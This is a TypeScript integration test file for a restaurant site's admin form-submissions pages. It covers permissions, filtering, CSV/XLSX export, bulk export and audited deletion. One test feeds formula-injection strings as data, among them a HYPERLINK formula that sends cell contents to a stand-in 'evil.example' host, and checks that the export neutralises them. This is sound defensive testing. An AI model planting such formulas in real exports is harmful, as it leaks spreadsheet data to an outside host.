import { expect } from 'chai';
import { sql } from 'kysely';
import type { Page } from '../../../server/db/schema';
import { addChild } from '../../../server/models/pages';
import { createAdminUser, signedInClient } from '../../support/admin';
import { createTestSite, uniqueSuffix } from '../../support/fixtures';
import { startTestServer, type TestServer } from '../../support/server';
import { csvRows, download, xlsxNumberFormat, xlsxRowCount, xlsxRows } from '../../support/spreadsheets';

const CONTACT_HEADINGS = [
  'Submission date',
  'Category',
  'Topic',
  'Restaurant Location',
  'Date of Visit',
  'Time of Visit',
  'Order / Check Number',
  'First Name',
  'Last Name',
  'Email Address',
  'Phone Number',
  'Street Address',
  'City',
  'State / Province',
  'ZIP / Postal Code',
  'Message',
];

describe('admin forms and submissions', () => {
  let server: TestServer;

  before(async () => {
    server = await startTestServer();
  });
  after(async () => {
    await server.close();
  });

  /** A site with a contact page and a signup page, and an editor who may change that site's pages. */
  async function formSite() {
    const { home } = await createTestSite(server.db);
    const contact = await addChild(server.db, home, { title: `Contact us ${uniqueSuffix()}`, slug: `contact-${uniqueSuffix()}`, pageType: 'contact_us_page', content: {} });
    const signup = await addChild(server.db, home, { title: `Join the club ${uniqueSuffix()}`, slug: `signup-${uniqueSuffix()}`, pageType: 'email_signup_page', content: {} });
    const editor = await createAdminUser(server.db, { pagePermissions: [{ page: home, permissions: ['add', 'change'] }] });
    return { home, contact, signup, editor };
  }

  async function addSubmission(page: Page, at: string, data: Record<string, unknown>) {
    return server.db
      .insertInto('form_submissions')
      .values({ page_id: page.id, submit_time: new Date(at), form_data: JSON.stringify(data) })
      .returningAll()
      .executeTakeFirstOrThrow();
  }

  const message = (firstName: string, text: string) => ({
    question_category: 'Restaurant Experience',
    topic: 'Food quality',
    first_name: firstName,
    last_name: 'Diaz',
    email: `${firstName.toLowerCase()}@example.com`,
    message: text,
  });

  it('lists the form pages the user may change with their submission counts, and none to others', async () => {
    const { contact, signup, editor } = await formSite();
    await addSubmission(contact, '2026-03-01T10:00:00Z', message('Ana', 'Great crab'));
    await addSubmission(contact, '2026-03-02T10:00:00Z', message('Ben', 'Cold fries'));
    const client = await signedInClient(server, editor);
    const index = await client.get('/wagtail/forms/');
    expect(index.status).to.equal(200);
    const row = index.body.slice(index.body.indexOf(`/wagtail/forms/submissions/${contact.id}/`));
    expect(row.slice(0, row.indexOf('</tr>')))
      .to.include('Contact us page')
      .and.include('>2<');
    expect(index.body).to.include(`/wagtail/forms/submissions/${signup.id}/`).and.include('Email signup page');
    expect(index.body).to.match(/<a[^>]*href="\/wagtail\/forms\/"/);

    const stranger = await signedInClient(server, await createAdminUser(server.db));
    const strangerIndex = await stranger.get('/wagtail/forms/');
    expect(strangerIndex.status).to.equal(200);
    expect(strangerIndex.body).not.to.include(`/wagtail/forms/submissions/${contact.id}/`);
    expect(strangerIndex.body).not.to.match(/<a[^>]*href="\/wagtail\/forms\/"/);
    expect((await stranger.get(`/wagtail/forms/submissions/${contact.id}/`)).status).to.equal(403);
  });

  it('shows submissions newest first with a column per field, filtered by dates and words, a page at a time', async () => {
    const { contact, editor } = await formSite();
    for (let day = 1; day <= 25; day++) await addSubmission(contact, `2026-04-${String(day).padStart(2, '0')}T15:00:00Z`, message(`Guest${day}`, `Visit ${day}`));
    const client = await signedInClient(server, editor);
    const url = `/wagtail/forms/submissions/${contact.id}/`;
    const first = await client.get(url);
    expect(first.status).to.equal(200);
    for (const heading of CONTACT_HEADINGS.slice(1)) expect(first.body).to.include(`<th scope="col">${heading}</th>`);
    expect(first.body).to.include('<th scope="col" aria-sort="descending"><a href="?order_by&#x3D;submit_time">Submission date</a></th>');
    expect(first.body).to.include('There are 25 submissions').and.include('Page 1 of 2').and.include('Guest25').and.not.include('>Guest1<');
    const second = await client.get(`${url}?p=2`);
    expect(second.body).to.include('>Guest1<').and.include('Page 2 of 2');
    const oldestFirst = await client.get(`${url}?order_by=submit_time`);
    expect(oldestFirst.body.indexOf('>Guest1<')).to.be.greaterThan(-1).and.lessThan(oldestFirst.body.indexOf('>Guest2<'));
    expect(oldestFirst.body).to.include('aria-sort="ascending"').and.not.include('Guest25');

    const ranged = await client.get(`${url}?date_from=2026-04-10&date_to=2026-04-12`);
    expect(ranged.body).to.include('There are 3 submissions').and.include('Guest10').and.include('Guest12').and.not.include('Guest13<');
    const searched = await client.get(`${url}?q=guest7`);
    expect(searched.body).to.include('There is 1 submission').and.include('Guest7');
    const none = await client.get(`${url}?q=nobody-wrote-this`);
    expect(none.body).to.include('No submissions match these filters.');

    const bad = await client.get(`${url}?date_from=2026-02-30`);
    expect(bad.status).to.equal(400);
    expect(bad.body).to.include('id="id_date_from-error"').and.include('Enter a valid date.').and.include('value="2026-02-30"');
  });

  it('exports the filtered submissions as CSV and XLSX with Wagtail file names, oldest first', async () => {
    const { contact, editor } = await formSite();
    await addSubmission(contact, '2026-05-01T09:30:00Z', message('Ana', 'Great crab, "really"'));
    await addSubmission(contact, '2026-05-03T18:45:10.250Z', { ...message('Ben', 'Cold fries'), location_rlid: 42 });
    await addSubmission(contact, '2026-06-01T12:00:00Z', message('Cy', 'Outside the range'));
    const client = await signedInClient(server, editor);
    const url = `/wagtail/forms/submissions/${contact.id}/?date_from=2026-05-01&date_to=2026-05-31`;

    const page = await client.get(url);
    const decoded = page.body.replaceAll('&#x3D;', '=').replaceAll('&amp;', '&');
    expect(decoded).to.include(`href="/wagtail/forms/submissions/${contact.id}/?date_from=2026-05-01&date_to=2026-05-31&export=csv"`);

    const csv = await download(server, client, `${url}&export=csv`);
    expect(csv.status).to.equal(200);
    expect(csv.contentType).to.match(/^text\/csv/);
    expect(csv.disposition).to.match(new RegExp(`^attachment; filename="${contact.slug}-export-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    const rows = csvRows(csv.bytes);
    expect(rows[0]).to.deep.equal(CONTACT_HEADINGS);
    expect(rows.length).to.equal(3);
    const column = (name: string) => CONTACT_HEADINGS.indexOf(name);
    expect(rows[1]![0]).to.equal('2026-05-01 09:30:00+00:00');
    expect(rows[1]![column('First Name')]).to.equal('Ana');
    expect(rows[1]![column('Message')]).to.equal('Great crab, "really"');
    expect(rows[2]![0]).to.equal('2026-05-03 18:45:10.250000+00:00');
    expect(rows[2]![column('Restaurant Location')]).to.equal('42');

    const xlsx = await download(server, client, `${url}&export=xlsx`);
    expect(xlsx.contentType).to.equal('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(xlsx.disposition).to.match(/\.xlsx"$/);
    const sheet = await xlsxRows(xlsx.bytes);
    expect(sheet[0]).to.deep.equal(CONTACT_HEADINGS);
    expect(sheet.length).to.equal(3);
    expect((sheet[1]![0] as Date).toISOString()).to.equal('2026-05-01T09:30:00.000Z');
    expect(sheet[2]![column('Restaurant Location')]).to.equal(42);
    expect(sheet[2]![column('Email Address')]).to.equal('ben@example.com');
    expect(await xlsxNumberFormat(xlsx.bytes, 2, 1)).to.equal('mm/dd/yyyy h:mm AM/PM');

    const stranger = await signedInClient(server, await createAdminUser(server.db));
    expect((await download(server, stranger, `${url}&export=csv`)).status).to.equal(403);
  });

  it('exports text that starts like a formula with a leading quote in CSV, and as plain text in XLSX', async () => {
    const { contact, editor } = await formSite();
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
    for (const [index, text] of hostile.entries()) {
      await addSubmission(contact, `2026-07-0${index + 1}T09:00:00Z`, { ...message(`Guest${index}`, text), location_rlid: -5 });
    }
    const client = await signedInClient(server, editor);
    const url = `/wagtail/forms/submissions/${contact.id}/`;
    const column = (name: string) => CONTACT_HEADINGS.indexOf(name);

    const rows = csvRows((await download(server, client, `${url}?export=csv`)).bytes);
    expect(rows.slice(1).map((row) => row[column('Message')])).to.deep.equal(hostile.map((text) => `'${text}`));
    expect(rows[1]![column('Restaurant Location')]).to.equal('-5');

    const sheet = await xlsxRows((await download(server, client, `${url}?export=xlsx`)).bytes);
    // A string cell, never a formula; XML reads a raw carriage return as a line feed.
    expect(sheet.slice(1).map((row) => row[column('Message')])).to.deep.equal(hostile.map((text) => text.replace('\r', '\n')));
    expect(sheet[1]![column('Restaurant Location')]).to.equal(-5);
  });

  it('streams an export of 20,000 submissions whole', async function () {
    // Twenty thousand rows take a while on a busy machine; only the count is checked, never the time.
    this.timeout(180_000);
    const { contact, editor } = await formSite();
    await sql`insert into form_submissions (page_id, form_data, submit_time)
      select ${contact.id}, jsonb_build_object('first_name', 'Guest ' || n, 'message', 'Message ' || n), timestamptz '2026-01-01' + n * interval '1 minute'
        from generate_series(1, 20000) as n`.execute(server.db);
    const client = await signedInClient(server, editor);
    const csv = await download(server, client, `/wagtail/forms/submissions/${contact.id}/?export=csv`);
    const rows = csvRows(csv.bytes);
    expect(rows.length).to.equal(20001);
    expect(rows[1]![CONTACT_HEADINGS.indexOf('First Name')]).to.equal('Guest 1');
    expect(rows[20000]![CONTACT_HEADINGS.indexOf('First Name')]).to.equal('Guest 20000');
    const xlsx = await download(server, client, `/wagtail/forms/submissions/${contact.id}/?export=xlsx`);
    expect(await xlsxRowCount(xlsx.bytes)).to.equal(20001);

    // A download abandoned after its first bytes stops there; the next request is served as usual.
    const abandoned = new AbortController();
    const partial = await fetch(`${server.baseUrl}/wagtail/forms/submissions/${contact.id}/?export=xlsx`, { headers: { cookie: client.jar.header() }, signal: abandoned.signal });
    await partial.body!.getReader().read();
    abandoned.abort();
    expect((await client.get(`/wagtail/forms/submissions/${contact.id}/`)).status).to.equal(200);
  });

  it('deletes selected submissions after confirming, audited, and refuses those who may not see them', async () => {
    const { contact, editor } = await formSite();
    const keep = await addSubmission(contact, '2026-07-01T10:00:00Z', message('Keep', 'Stay'));
    const first = await addSubmission(contact, '2026-07-02T10:00:00Z', message('Gone', 'One'));
    const second = await addSubmission(contact, '2026-07-03T10:00:00Z', message('Gone', 'Two'));
    const deleteUrl = `/wagtail/forms/submissions/${contact.id}/delete/?selected-submissions=${first.id}&selected-submissions=${second.id}`;

    const stranger = await signedInClient(server, await createAdminUser(server.db));
    expect((await stranger.get(deleteUrl)).status).to.equal(403);
    expect((await stranger.post(deleteUrl)).status).to.equal(403);

    const client = await signedInClient(server, editor);
    const listing = await client.get(`/wagtail/forms/submissions/${contact.id}/`);
    expect(listing.body.replaceAll('&#x3D;', '=')).to.include(`href="/wagtail/forms/submissions/${contact.id}/delete/?selected-submissions=${keep.id}"`);
    const confirm = await client.get(deleteUrl);
    expect(confirm.status).to.equal(200);
    expect(confirm.body).to.include('Are you sure you want to delete these form submissions?').and.include('Delete form data');
    const done = await client.post(deleteUrl);
    expect(done.status).to.equal(303);
    expect(done.headers.location).to.equal(`/wagtail/forms/submissions/${contact.id}/`);
    const after = await client.get(`/wagtail/forms/submissions/${contact.id}/`);
    expect(after.body).to.include('2 submissions have been deleted.').and.include('There is 1 submission');
    const left = await server.db.selectFrom('form_submissions').select('id').where('page_id', '=', contact.id).execute();
    expect(left.map((row) => row.id)).to.deep.equal([keep.id]);
    const audit = await server.db.selectFrom('admin_log_entries').selectAll().where('action', '=', 'form_submission.delete').where('object_id', 'in', [first.id, second.id]).execute();
    expect(audit).to.have.length(2);
    expect(audit[0]!.user_id).to.equal(editor.id);
    expect(audit[0]!.data).to.deep.equal({ page_id: contact.id });

    expect((await client.get(`/wagtail/forms/submissions/${contact.id}/delete/`)).status).to.equal(400);
  });

  it("shows the signup list's signups and unsubscribes on the signup page, exportable and not deletable", async () => {
    const { signup, editor } = await formSite();
    const email = `diner-${uniqueSuffix()}@example.com`;
    const subscriber = await server.db
      .insertInto('subscribers')
      .values({ email, first_name: 'Dana', last_name: 'Reyes', postcode: '02134', subscribed: false, consent: true })
      .returningAll()
      .executeTakeFirstOrThrow();
    await server.db
      .insertInto('subscription_events')
      .values([
        { subscriber_id: subscriber.id, email, kind: 'subscribe', created_at: new Date('2026-08-01T10:00:00Z') },
        { subscriber_id: subscriber.id, email, kind: 'unsubscribe', created_at: new Date('2026-08-05T10:00:00Z') },
      ])
      .execute();
    const client = await signedInClient(server, editor);
    const url = `/wagtail/forms/submissions/${signup.id}/?q=${encodeURIComponent(email)}`;
    const listing = await client.get(url);
    expect(listing.status).to.equal(200);
    expect(listing.body).to.include('There are 2 submissions').and.include('Signed up').and.include('Unsubscribed').and.include('Dana').and.not.include('Delete selected submissions');
    const rows = csvRows((await download(server, client, `${url}&export=csv`)).bytes);
    expect(rows[0]!.slice(0, 4)).to.deep.equal(['Submission date', 'Action', 'Email Address', 'First Name']);
    expect(rows.slice(1).map((row) => row[1])).to.deep.equal(['Signed up', 'Unsubscribed']);
    expect(rows[1]![rows[0]!.indexOf('Offers by email')]).to.equal('True');
    expect((await client.get(`/wagtail/forms/submissions/${signup.id}/delete/?selected-submissions=1`)).status).to.equal(403);
  });
});
